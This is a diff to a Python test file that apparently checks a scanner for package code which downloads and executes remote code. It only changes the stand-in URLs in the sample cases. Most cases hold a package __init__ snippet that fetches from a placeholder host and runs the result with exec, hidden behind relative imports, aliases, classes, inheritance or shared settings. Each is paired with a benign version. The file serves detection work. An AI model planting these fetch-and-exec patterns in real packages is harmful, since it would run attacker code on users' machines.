@@ -71,7 +71,7 @@ CASES = (
     ),
     evasion(
         "source function imported relatively",
-        {INIT: "from .net import get\nexec(get('http://192.0.2.7/a'))\n", "example_pkg/net.py": _NET},
+        {INIT: "from .net import get\nexec(get('https://stage.example.invalid/a'))\n", "example_pkg/net.py": _NET},
         {
             INIT: "from .net import get\n\ndef version():\n    return get('https://api.example.invalid/v')\n",
             "example_pkg/net.py": _NET,
@@ -79,7 +79,7 @@ CASES = (
     ),
     evasion(
         "source module imported with from dot",
-        {INIT: "from . import net\nexec(net.get('http://192.0.2.7/a'))\n", "example_pkg/net.py": _NET},
+        {INIT: "from . import net\nexec(net.get('https://stage.example.invalid/a'))\n", "example_pkg/net.py": _NET},
         {
             INIT: "from . import net\n\ndef version():\n    return net.get('https://api.example.invalid/v')\n",
             "example_pkg/net.py": _NET,
@@ -88,7 +88,7 @@ CASES = (
     evasion(
         "source module imported by its absolute name",
         {
-            INIT: "import example_pkg.net as n\nexec(n.get('http://192.0.2.7/a'))\n",
+            INIT: "import example_pkg.net as n\nexec(n.get('https://stage.example.invalid/a'))\n",
             "example_pkg/net.py": _NET,
         },
         {
@@ -99,7 +99,7 @@ CASES = (
     evasion(
         "absolute import without alias",
         {
-            INIT: "import example_pkg.net\nexec(example_pkg.net.get('http://192.0.2.7/a'))\n",
+            INIT: "import example_pkg.net\nexec(example_pkg.net.get('https://stage.example.invalid/a'))\n",
             "example_pkg/net.py": _NET,
         },
         {INIT: "import example_pkg.net\nGET = example_pkg.net.get\n", "example_pkg/net.py": _NET},
@@ -107,7 +107,7 @@ CASES = (
     evasion(
         "sink in another module",
         {
-            INIT: "import urllib.request as u\nfrom .run import run\nrun(u.urlopen('http://192.0.2.7/a').read())\n",
+            INIT: "import urllib.request as u\nfrom .run import run\nrun(u.urlopen('https://stage.example.invalid/a').read())\n",
             "example_pkg/run.py": _RUN,
         },
         {
@@ -119,7 +119,7 @@ CASES = (
     evasion(
         "source and sink in two other modules",
         {
-            INIT: "from . import net, run\nrun.run(net.get('http://192.0.2.7/a'))\n",
+            INIT: "from . import net, run\nrun.run(net.get('https://stage.example.invalid/a'))\n",
             "example_pkg/net.py": _NET,
             "example_pkg/run.py": _RUN,
         },
@@ -153,7 +153,7 @@ CASES = (
         "modules that import each other",
         {
             INIT: "from .a import go\ngo()\n",
-            "example_pkg/a.py": "from . import b\nURL = 'http://192.0.2.7/a'\n\ndef go():\n    exec(b.load())\n",
+            "example_pkg/a.py": "from . import b\nURL = 'https://stage.example.invalid/a'\n\ndef go():\n    exec(b.load())\n",
             "example_pkg/b.py": "import urllib.request as u\nfrom . import a\n\ndef load():\n"
             "    return u.urlopen(a.URL).read()\n",
         },
@@ -168,7 +168,7 @@ CASES = (
     evasion(
         "class of another module",
         {
-            INIT: "from .loader import Loader\nLoader('http://192.0.2.7/a').start()\n",
+            INIT: "from .loader import Loader\nLoader('https://stage.example.invalid/a').start()\n",
             "example_pkg/loader.py": "import requests\n\nclass Loader:\n    def __init__(self, url):\n"
             "        self.url = url\n\n    def start(self):\n        exec(requests.get(self.url).text)\n",
         },
@@ -181,7 +181,7 @@ CASES = (
     evasion(
         "inheritance across modules",
         {
-            INIT: "from .base import Base\n\nclass A(Base):\n    url = 'http://192.0.2.7/a'\n\nA().start()\n",
+            INIT: "from .base import Base\n\nclass A(Base):\n    url = 'https://stage.example.invalid/a'\n\nA().start()\n",
             "example_pkg/base.py": "import requests\n\nclass Base:\n    url = ''\n\n    def start(self):\n"
             "        exec(requests.get(self.url).text)\n",
         },
@@ -216,7 +216,7 @@ CASES = (
     evasion(
         "alias re-exported from a module of names",
         {
-            INIT: "from ._compat import runner, fetch\nrunner(fetch('http://192.0.2.7/a').read())\n",
+            INIT: "from ._compat import runner, fetch\nrunner(fetch('https://stage.example.invalid/a').read())\n",
             "example_pkg/_compat.py": "from builtins import exec as runner\nfrom urllib.request import urlopen as fetch\n",
         },
         {
@@ -251,7 +251,7 @@ CASES = (
     evasion(
         "a setting assigned to another module",
         {
-            INIT: "from . import conf, go\nconf.URL = 'http://192.0.2.7/a'\ngo.start()\n",
+            INIT: "from . import conf, go\nconf.URL = 'https://stage.example.invalid/a'\ngo.start()\n",
             "example_pkg/conf.py": "URL = ''\n",
             "example_pkg/go.py": "import requests\nfrom . import conf\n\ndef start():\n"
             "    exec(requests.get(conf.URL).text)\n",
